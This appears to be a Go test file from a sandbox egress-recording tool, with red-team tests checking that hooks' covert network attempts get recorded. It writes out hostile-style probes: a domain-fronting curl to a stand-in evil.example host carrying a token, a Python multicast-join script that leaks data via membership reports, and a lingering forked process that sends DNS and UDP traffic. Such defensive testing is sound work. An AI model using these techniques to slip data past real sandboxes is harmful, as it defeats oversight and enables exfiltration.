package escape

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

// TestRedteam26HostHeaderSiteIsNamed: in record mode a hook's curl that
// sends front.example a request for the site evil.example (curl -H 'Host:
// evil.example' http://front.example/p: domain fronting, which a CDN that
// serves both from one address answers as evil.example) goes to the
// recording proxy as GET http://front.example/p with that Host header.
// Without a proxy, as under Claude Code, it reaches evil.example's site,
// and the record named front.example alone. Now evil.example is an entry
// of its own beside front.example's, for every caller.
func TestRedteam26HostHeaderSiteIsNamed(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "curl")
	for _, r := range runners(t) {
		t.Run(r.name, func(t *testing.T) {
			dir := workTree(t)
			got := vigilesRaw(t, r, dir, "--egress", "record", "--", "curl", "-s", "-m", "5",
				"-H", "Host: evil.example", "http://front.example/p?token=s3cret")
			want := map[string]string{
				"front.example 80": "GET /p",
				"evil.example 80":  "GET /p (asked for by its Host header of a request sent to front.example port 80)",
			}
			for _, e := range got.Egress {
				if e.Via != "proxy" {
					continue
				}
				k := fmt.Sprintf("%s %d", e.Host, e.Port)
				d, ok := want[k]
				if !ok {
					t.Errorf("unexpected proxy entry %+v", e)
					continue
				}
				if e.Detail != d || e.Attempts != 1 || e.Allowed {
					t.Errorf("%s: %+v, want detail %q, 1 attempt, not allowed", k, e, d)
				}
				delete(want, k)
			}
			for k := range want {
				t.Errorf("no proxy entry for %s in %+v", k, got.Egress)
			}
		})
	}
}

// groupJoiner joins an IPv4 and an IPv6 multicast group of the command's
// choosing (IP_ADD_MEMBERSHIP, IPV6_JOIN_GROUP: no privilege needed), on
// whatever link the route to each leads to, and sends nothing itself: the
// kernel announces each join in a membership report (IGMPv3 to
// 224.0.0.22, MLDv2 to ff02::16), the group address in it, as under Claude
// Code it does on the host's network, where every multicast router and
// snooping switch of the link reads it (112 bits of the command's choice
// in an IPv6 group), and a source-specific join of each family names the
// sources it asks the group's traffic from as well. It waits for the
// reports, then leaves.
const groupJoiner = `import socket, struct, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("239.26.0.7") + socket.inet_aton("0.0.0.0"))
s6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
s6.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, socket.inet_pton(socket.AF_INET6, "ff0e::5ec:7e7:26") + struct.pack("@I", 0))
# Source-specific joins: the sources are the command's to choose too.
s.setsockopt(socket.IPPROTO_IP, 39, socket.inet_aton("239.26.0.8") + socket.inet_aton("0.0.0.0") + socket.inet_aton("203.0.113.26"))  # IP_ADD_SOURCE_MEMBERSHIP
def sin6(a):
    return (struct.pack("=H", socket.AF_INET6) + struct.pack("!HI", 0, 0) + socket.inet_pton(socket.AF_INET6, a) + struct.pack("=I", 0)).ljust(128, b"\0")
s6.setsockopt(socket.IPPROTO_IPV6, 46, struct.pack("=I4x", 0) + sin6("ff3e::8000:26") + sin6("2001:db8::26"))  # MCAST_JOIN_SOURCE_GROUP
print("joined", flush=True)
time.sleep(1.5)
`

// TestRedteam26MulticastGroupsAreNamed: the groups a hook joins are in the
// record, in every mode, for every caller: each an entry of its own, the
// group's address, whose detail says a membership report named it, and so
// is each source a source-specific join named. Before,
// deny and record mode recorded the reports as attempts at 224.0.0.22 and
// ff02::16 alone (every group the same entry), and allow mode let the MLD
// reports through to the connector unrecorded.
func TestRedteam26MulticastGroupsAreNamed(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "python3")
	for _, r := range runners(t) {
		for _, mode := range egressModes(r, "198.51.100.250/32") {
			t.Run(r.name+"/"+mode[0]+connectorOf(mode), func(t *testing.T) {
				dir := workTree(t)
				res := vigiles(t, r, dir, nil, append([]string{"--egress"}, append(mode, "--", "python3", "-c", groupJoiner)...)...)
				if !strings.Contains(res.Stdout, "joined") {
					t.Fatalf("the joins failed: stdout %q, stderr %q", res.Stdout, res.Stderr)
				}
				var got egressResult
				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
					t.Fatal(err)
				}
				want := map[string]string{
					"239.26.0.7":       "multicast group the command joined, named in an IGMP membership report to 224.0.0.22",
					"ff0e::5ec:7e7:26": "multicast group the command joined, named in an MLD membership report to ff02::16",
					"239.26.0.8":       "multicast group the command joined, named in an IGMP membership report to 224.0.0.22",
					"203.0.113.26":     "multicast group the command joined (239.26.0.8) asking for its traffic from this source, named in an IGMP membership report to 224.0.0.22",
					"ff3e::8000:26":    "multicast group the command joined, named in an MLD membership report to ff02::16",
					"2001:db8::26":     "multicast group the command joined (ff3e::8000:26) asking for its traffic from this source, named in an MLD membership report to ff02::16",
				}
				for _, e := range got.Egress {
					d, ok := want[e.IP]
					if !ok {
						continue
					}
					if mode[0] == "allow" && strings.Contains(d, "MLD") {
						// The wall lets MLD through to the
						// connector's link, as the kernel needs.
						d += " (the report went out)"
					}
					if e.Via != "connect" || e.Detail != d || e.Attempts < 1 || e.Allowed || e.Host != "" {
						t.Errorf("%s: %+v, want a connect entry, detail %q, an attempt or more, not allowed", e.IP, e, d)
					}
					delete(want, e.IP)
				}
				for g := range want {
					t.Errorf("group %s is not in the record: %+v", g, got.Egress)
				}
			})
		}
	}
}

// leftoverAttempts is a command that exits at once and leaves a process
// behind that, once the command is gone, asks the sandbox's DNS stub for a
// name and sends a datagram to a remote address.
const leftoverAttempts = `import socket, struct, time
time.sleep(0.3)
q = struct.pack("!HHHHHH", 0x2626, 0x0100, 1, 0, 0, 0) + b"\x08leftover\x04leak\x04test\x00" + struct.pack("!HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(q, ("127.0.0.1", 53))
s.settimeout(3)
s.recv(512)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    u.sendto(b"x", ("192.0.2.126", 126))
except OSError:
    pass
`

// TestRedteam26LeftoverAttemptsAreRecorded: what a process the command
// left behind tries during the linger, after the command has exited (a
// hook that forks its telemetry and returns at once), is in the record as
// the command's own attempts are, in every mode, for every caller: the
// record is made once the leftovers are gone, not at the command's exit.
func TestRedteam26LeftoverAttemptsAreRecorded(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "python3")
	for _, r := range runners(t) {
		for _, mode := range egressModes(r, "198.51.100.250/32") {
			t.Run(r.name+"/"+mode[0]+connectorOf(mode), func(t *testing.T) {
				dir := workTree(t)
				args := append([]string{"--linger", "5s", "--egress"}, mode...)
				args = append(args, "--", "sh", "-c", "python3 -c '"+leftoverAttempts+"' & exit 0")
				res := vigiles(t, r, dir, nil, args...)
				var got egressResult
				if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
					t.Fatal(err)
				}
				want := map[string]bool{"dns leftover.leak.test": true, "connect 192.0.2.126 126 udp": true}
				for _, e := range got.Egress {
					k := fmt.Sprintf("%s %s %d %s", e.Via, e.IP, e.Port, e.Proto)
					if e.Via == "dns" {
						k = "dns " + e.Host
					}
					if want[k] {
						if e.Attempts != 1 || e.Allowed {
							t.Errorf("%s: %+v, want 1 attempt, not allowed", k, e)
						}
						delete(want, k)
					}
				}
				for k := range want {
					t.Errorf("the leftover's %s is not in the record: %+v (stderr %q)", k, got.Egress, res.Stderr)
				}
			})
		}
	}
}
